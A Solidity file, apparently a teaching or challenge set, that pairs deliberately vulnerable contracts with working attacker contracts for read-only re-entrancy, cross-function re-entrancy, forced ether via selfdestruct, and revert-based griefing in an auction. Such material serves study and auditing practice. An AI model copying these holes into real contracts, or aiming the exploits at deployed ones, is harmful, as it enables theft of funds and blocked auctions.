// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// -- read-only re-entrancy -----------------------------------------------------------------------

// Shares of a pot of ether. Who leaves is paid before the shares are forgotten.
contract Pot {
    address public keeper;
    uint256 public totalShares;
    uint256 public least;
    mapping(address => uint256) public sharesOf;
    bool busy;
    constructor() { keeper = msg.sender; }
    modifier once() { require(!busy, "busy"); busy = true; _; busy = false; }

    function setLeast(uint256 least_) external {
        require(msg.sender == keeper, "not the keeper");
        least = least_;
    }

    function sharePrice() public view returns (uint256) {
        return totalShares == 0 ? 1e18 : address(this).balance * 1e18 / totalShares;
    }

    function enter() external payable once {
        require(msg.value > least, "too little");
        uint256 before = address(this).balance - msg.value;
        uint256 count = totalShares == 0 ? msg.value : msg.value * totalShares / before;
        totalShares += count;
        sharesOf[msg.sender] += count;
    }

    function leave(uint256 count) external once {
        require(count > 0 && count <= sharesOf[msg.sender], "not yours");
        (bool ok, ) = msg.sender.call{value: count * sharePrice() / 1e18}("");
        require(ok, "not paid");
        sharesOf[msg.sender] -= count;
        totalShares -= count;
    }

    function donate() external payable { require(totalShares > 0, "for nobody"); }

    function hand(address to, uint256 count) external once {
        require(count <= sharesOf[msg.sender], "not yours");
        sharesOf[msg.sender] -= count;
        sharesOf[to] += count;
    }
}

// Insures against a fall of the pot's price.
contract Hedge {
    Pot public immutable pot;
    mapping(address => uint256) public cover;
    constructor(Pot pot_) payable { pot = pot_; }

    function insure() external payable {
        require(pot.sharePrice() >= 0.9e18, "fallen already");
        cover[msg.sender] += msg.value * 10;
    }

    function claim() external {
        require(pot.sharePrice() < 0.9e18, "not fallen");
        uint256 sum = cover[msg.sender];
        cover[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: sum}("");
        require(ok, "not paid");
    }
}

contract Doorman {
    Pot immutable pot;
    Hedge immutable hedge;
    bool inside;
    constructor(Pot pot_, Hedge hedge_) { pot = pot_; hedge = hedge_; }

    receive() external payable {
        if (msg.sender == address(pot) && !inside) { inside = true; hedge.claim(); }
    }

    function go(uint256 premium) external payable {
        hedge.insure{value: premium}();
        pot.enter{value: msg.value - premium}();
        pot.leave(pot.sharesOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }
}

// -- cross-function re-entrancy ------------------------------------------------------------------

contract Bank {
    address public director;
    uint256 public fee;
    mapping(address => uint256) public balanceOf;
    constructor() { director = msg.sender; }

    function setFee(uint256 fee_) external {
        require(msg.sender == director, "not the director");
        fee = fee_;
    }

    function deposit() external payable {
        require(msg.value > 0, "nothing");
        balanceOf[msg.sender] += msg.value;
    }

    function transfer(address to, uint256 value) external {
        require(balanceOf[msg.sender] >= value, "too little");
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
    }

    function withdraw() external {
        uint256 value = balanceOf[msg.sender];
        require(value > 0, "nothing");
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "not paid");
        balanceOf[msg.sender] = 0;
    }
}

contract Juggler {
    Bank immutable bank;
    address immutable friend;
    bool inside;
    constructor(Bank bank_, address friend_) { bank = bank_; friend = friend_; }

    receive() external payable {
        if (!inside) { inside = true; bank.transfer(friend, msg.value); }
    }

    function go() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
        payable(msg.sender).transfer(address(this).balance);
    }
}

// -- forced ether --------------------------------------------------------------------------------

// Whoever lifts the tower to the tenth ether takes it. How high it is, its balance says.
contract Tower {
    address public mason;
    address public winner;
    uint256 public height = 10 ether;
    uint256 public rounds;
    mapping(address => uint256) public stones;
    constructor() { mason = msg.sender; }

    function setHeight(uint256 height_) external {
        require(msg.sender == mason, "not the mason");
        height = height_;
    }

    function lay() external payable {
        require(msg.value == 1 ether, "one ether");
        require(winner == address(0), "it stands");
        stones[msg.sender] += 1;
        if (address(this).balance >= height) winner = msg.sender;
    }

    function take() external {
        require(msg.sender == winner, "not the winner");
        winner = address(0);
        rounds += 1;
        payable(msg.sender).transfer(address(this).balance);
    }
}

contract Bomb { constructor(address payable to) payable { selfdestruct(to); } }

contract Climber {
    receive() external payable {}
    function go(Tower tower) external payable {
        new Bomb{value: msg.value - 1 ether}(payable(address(tower)));
        tower.lay{value: 1 ether}();
        tower.take();
        payable(msg.sender).transfer(address(this).balance);
    }
}

// -- griefing by revert --------------------------------------------------------------------------

// Auctions that pay the outbid at once, and insist on it.
contract Rostrum {
    address public house;
    uint256 public cut;
    uint256 public count;
    struct Lot { address seller; address bidder; uint256 bid; uint256 closes; bool done; }
    mapping(uint256 => Lot) public lots;
    constructor() { house = msg.sender; }

    function setCut(uint256 cut_) external {
        require(msg.sender == house, "not the house");
        cut = cut_;
    }

    function offer(uint256 least, uint256 duration) external returns (uint256 id) {
        id = count++;
        lots[id] = Lot(msg.sender, address(0), least, block.timestamp + duration, false);
    }

    function bid(uint256 id) external payable {
        Lot storage lot = lots[id];
        require(block.timestamp < lot.closes, "closed");
        require(msg.value > lot.bid, "too little");
        address before = lot.bidder;
        uint256 back = lot.bid;
        lot.bidder = msg.sender;
        lot.bid = msg.value;
        if (before != address(0)) {
            (bool ok, ) = before.call{value: back}("");
            require(ok, "not refunded");
        }
    }

    function settle(uint256 id) external {
        Lot storage lot = lots[id];
        require(block.timestamp >= lot.closes && lot.closes != 0, "open");
        require(!lot.done, "done");
        lot.done = true;
        if (lot.bidder != address(0)) payable(lot.seller).transfer(lot.bid);
    }
}

contract Stubborn {
    function go(Rostrum rostrum, uint256 id) external payable { rostrum.bid{value: msg.value}(id); }
}
